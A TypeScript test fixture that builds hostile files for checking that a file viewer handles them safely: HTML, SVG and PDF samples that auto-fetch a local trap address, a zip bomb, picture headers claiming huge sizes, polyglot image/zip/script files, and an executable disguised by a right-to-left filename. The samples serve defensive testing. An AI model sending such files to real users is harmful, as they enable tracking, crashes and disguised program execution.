// Files that somebody could send to harm whoever opens them, and a few harmless ones beside them. Every address in them is of a
// trap on this machine: whatever fetches one, or even looks one up, is seen.
import { crc32, deflateRawSync, deflateSync } from "node:zlib"

/** A file as somebody sent it, and what the console must make of it. */
export interface Planted {
  readonly name: string
  readonly bytes: Buffer
  /** What its bytes are. */
  readonly kind: string
  readonly drawn?: string
  readonly failed?: string
  readonly also?: string
}

/** @param trap an address that nothing may ask for */
export function plantedFiles(trap: string): Planted[] {
  const markup = `<img src="${trap}/img"><iframe src="${trap}/frame"></iframe><link rel="stylesheet" href="${trap}/css"><script src="${trap}/js"></script><script>fetch("${trap}/fetch")</script><a ping="${trap}/ping" href="${trap}/a">x</a>`
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${trap}/svg')"><script>fetch('${trap}/svg')</script><image href="${trap}/svg.png" width="9" height="9"/></svg>`
  const pdf = `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(${trap}/pdf)>>/AA<</O<</S/JavaScript/JS(app.launchURL\\("${trap}/pdf"\\))>>>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`
  const small = png(40, 30)
  return [
    {
      name: "letter.html",
      bytes: Buffer.from(`<!doctype html><html><body>${markup}</body></html>`),
      kind: "html",
    },
    { name: "drawing.svg", bytes: Buffer.from(svg), kind: "svg" },
    { name: "drawing.png", bytes: Buffer.from(`<?xml version="1.0"?>${svg}`), kind: "svg" }, // under another name
    { name: "court.pdf", bytes: Buffer.from(pdf), kind: "pdf" },
    { name: "photos.zip", bytes: zipOfZeros(50_000_000), kind: "zip" },
    { name: "sunset.png", bytes: pngHeader(16_384, 16_384), kind: "png", failed: "picture-too-large" }, // 1 GB of pixels
    { name: "sunset.jpg", bytes: jpegHeader(65_500, 65_500), kind: "jpeg", failed: "picture-too-large" },
    { name: "sunset.gif", bytes: gifHeader(65_000, 4), kind: "gif", failed: "picture-too-large" },
    {
      name: "both.png",
      bytes: Buffer.concat([small, Buffer.from(markup), zipOfZeros(10)]),
      kind: "png",
      drawn: "40x30",
      also: "zip html",
    },
    {
      name: "both.gif",
      bytes: Buffer.from(`GIF89a/*${markup}*/=1;fetch("${trap}/gif")`),
      kind: "gif",
      failed: "picture-header",
      also: "html",
    },
    {
      name: "photo\u202egnp.exe",
      bytes: Buffer.from("MZ\x90\x00\x03".repeat(50), "latin1"),
      kind: "program",
    },
    { name: "small.png", bytes: small, kind: "png", drawn: "40x30" },
    { name: "broken.png", bytes: pngHeader(40, 30), kind: "png" }, // drawn as far as it goes, or not: as browsers do
    { name: "letter.bin", bytes: small, kind: "png", drawn: "40x30" },
    { name: "voice.wav", bytes: wav(), kind: "wav" },
    { name: "film.mp4", bytes: Buffer.from(`#EXTM3U\n#EXTINF:9,\n${trap}/list.ts\n`), kind: "text" }, // a list of addresses
    { name: "notes.txt", bytes: Buffer.from("שלום\u202eabc\nمرحبا\n"), kind: "text" },
    { name: "empty", bytes: Buffer.alloc(0), kind: "text" },
  ]
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}

const SIGNATURE = Buffer.from("\x89PNG\r\n\x1a\n", "latin1")

function header(width: number, height: number): Buffer {
  const data = Buffer.alloc(13)
  data.writeUInt32BE(width)
  data.writeUInt32BE(height, 4)
  data.set([8, 2, 0, 0, 0], 8)
  return chunk("IHDR", data)
}

/** A picture in one colour. */
export function png(width: number, height: number): Buffer {
  const rows = Buffer.alloc(height * (1 + 3 * width), 0x40)
  for (let y = 0; y < height; y++) rows[y * (1 + 3 * width)] = 0 // no filter
  const parts = [header(width, height), chunk("IDAT", deflateSync(rows)), chunk("IEND", Buffer.alloc(0))]
  return Buffer.concat([SIGNATURE, ...parts])
}

/** A picture of which only the beginning is there. */
function pngHeader(width: number, height: number): Buffer {
  return Buffer.concat([SIGNATURE, header(width, height), chunk("IDAT", deflateSync(Buffer.alloc(9)))])
}

function jpegHeader(width: number, height: number): Buffer {
  const frame = Buffer.from([0xff, 0xc0, 0, 17, 8, 0, 0, 0, 0, 3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1])
  frame.writeUInt16BE(height, 5)
  frame.writeUInt16BE(width, 7)
  const notes = Buffer.concat([Buffer.from([0xff, 0xe1, 0xff, 0xff]), Buffer.alloc(0xfffd)]) // a camera's, and large
  return Buffer.concat([Buffer.from([0xff, 0xd8]), notes, frame])
}

/** A small screen, and a first frame that is larger. */
function gifHeader(width: number, screen: number): Buffer {
  const bytes = Buffer.alloc(23)
  bytes.write("GIF89a", "latin1")
  bytes.writeUInt16LE(screen, 6)
  bytes.writeUInt16LE(screen, 8)
  bytes[13] = 0x2c
  bytes.writeUInt16LE(width, 18)
  bytes.writeUInt16LE(width, 20)
  return bytes
}

/** A zip of one file of zeros. */
function zipOfZeros(size: number): Buffer {
  const zeros = Buffer.alloc(size)
  const data = deflateRawSync(zeros, { level: 9 })
  const common = Buffer.alloc(26)
  common.writeUInt16LE(20)
  common.writeUInt16LE(8, 4)
  common.writeUInt32LE(crc32(zeros), 10)
  common.writeUInt32LE(data.length, 14)
  common.writeUInt32LE(size, 18)
  common.writeUInt16LE(1, 22)
  const local = Buffer.concat([Buffer.from("PK\x03\x04"), common, Buffer.from("a"), data])
  const central = Buffer.concat([
    Buffer.from("PK\x01\x02\x14\x00"),
    common,
    Buffer.alloc(14),
    Buffer.from("a"),
  ])
  const end = Buffer.alloc(22)
  end.write("PK\x05\x06", "latin1")
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(central.length, 12)
  end.writeUInt32LE(local.length, 16)
  return Buffer.concat([local, central, end])
}

/** A second of a quiet tone. */
function wav(): Buffer {
  const bytes = Buffer.alloc(44 + 8000, 0x80)
  bytes.write("RIFF", "latin1")
  bytes.writeUInt32LE(bytes.length - 8, 4)
  bytes.write("WAVEfmt ", 8, "latin1")
  bytes.writeUInt32LE(16, 16)
  bytes.writeUInt16LE(1, 20)
  bytes.writeUInt16LE(1, 22)
  bytes.writeUInt32LE(8000, 24)
  bytes.writeUInt32LE(8000, 28)
  bytes.writeUInt16LE(1, 32)
  bytes.writeUInt16LE(8, 34)
  bytes.write("data", 36, "latin1")
  bytes.writeUInt32LE(8000, 40)
  for (let at = 44; at < bytes.length; at++) bytes[at] = 128 + Math.round(4 * Math.sin(at / 3))
  return bytes
}
